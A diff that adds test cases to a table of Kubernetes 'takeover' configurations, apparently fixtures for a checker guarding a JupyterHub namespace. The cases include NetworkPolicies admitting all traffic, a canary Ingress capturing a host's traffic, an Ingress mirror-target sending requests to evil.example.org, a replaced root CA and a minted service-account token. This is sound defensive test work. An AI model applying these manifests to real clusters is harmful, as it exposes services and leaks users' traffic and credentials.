@@ -1210,6 +1210,79 @@ TAKEOVER = {
         "network",
         "Ingress heps/jupyterhub: metadata.annotations.nginx.ingress.kubernetes.io/server-snippet",
     ),
+    # NetworkPolicies add up: one of the overlay's opens what the base's closes
+    "network-policy-admitting-all": (
+        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
+        "namespace: heps}\nspec: {podSelector: {matchLabels: {component: singleuser-server}}, "
+        "policyTypes: [Ingress], ingress: [{}]}\n",
+        "",
+        "network",
+        "NetworkPolicy heps/open: spec.ingress[0].from: no peers listed",
+    ),
+    "network-policy-admitting-namespaces": (
+        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
+        "namespace: heps}\nspec: {podSelector: {}, ingress: [{from: [{podSelector: "
+        "{matchLabels: {a: b}}, namespaceSelector: {}}]}]}\n",
+        "",
+        "network",
+        "NetworkPolicy heps/open: spec.ingress[0].from[0]: admits more than pods of this",
+    ),
+    "network-policy-admitting-addresses": (
+        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
+        "namespace: heps}\nspec: {podSelector: {}, ingress: [{from: [{ipBlock: "
+        "{cidr: 0.0.0.0/0}}]}]}\n",
+        "",
+        "network",
+        "NetworkPolicy heps/open: spec.ingress[0].from[0]: admits more than pods of this",
+    ),
+    "ingress-canary-taking-the-hosts-traffic": (
+        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: steal\n"
+        "  namespace: heps\n  annotations: {nginx.ingress.kubernetes.io/canary: 'true', "
+        "nginx.ingress.kubernetes.io/canary-weight: '100'}\nspec:\n  ingressClassName: nginx\n"
+        "  rules: [{host: jupyter-testbed.heps.ihep.ac.cn, http: {paths: [{path: /, pathType: "
+        "Prefix, backend: {service: {name: proxy-public, port: {name: http}}}}]}}]\n",
+        "",
+        "network",
+        "Ingress heps/steal: metadata.annotations.nginx.ingress.kubernetes.io/canary:",
+    ),
+    "ingress-mirror": (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
+        "  - target: {kind: Ingress, name: jupyterhub}\n    patch: |-\n"
+        "      - {op: add, path: /metadata/annotations/"
+        "nginx.ingress.kubernetes.io~1mirror-target, value: 'https://evil.example.org'}\n",
+        "network",
+        "Ingress heps/jupyterhub: metadata.annotations.nginx.ingress.kubernetes.io/mirror-target",
+    ),
+    "node-port": (
+        "apiVersion: v1\nkind: Service\nmetadata: {name: out, namespace: heps}\n"
+        "spec: {type: NodePort, selector: {app: x}, ports: [{port: 8081}]}\n",
+        "",
+        "network",
+        "Service heps/out: spec.type: NodePort",
+    ),
+    "pod-security-pinned-to-an-old-release": (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
+        "  - target: {kind: Namespace, name: heps}\n    patch: |-\n"
+        "      - {op: add, path: /metadata/labels/pod-security.kubernetes.io~1enforce-version, "
+        "value: v1.0}\n",
+        "podSecurityAdmission",
+        "Namespace heps: metadata.labels.pod-security.kubernetes.io/enforce-version: v1.0",
+    ),
+    "root-ca-replaced": (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-root-ca.crt, namespace: heps}\n"
+        "data: {ca.crt: x}\n",
+        "",
+        "managed",
+        "ConfigMap heps/kube-root-ca.crt: metadata.name",
+    ),
+    "service-account-token-minted": (
+        "apiVersion: v1\nkind: Secret\nmetadata: {name: hub-token, namespace: heps, "
+        "annotations: {kubernetes.io/service-account.name: hub}}\n"
+        "type: kubernetes.io/service-account-token\n",
+        "",
+        "managed",
+        "Secret heps/hub-token: type: kubernetes.io/service-account-token",
+    ),
     "mutating-webhook": (
         "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\n"
         "metadata: {name: evil}\nwebhooks:\n  - name: evil.example.org\n"
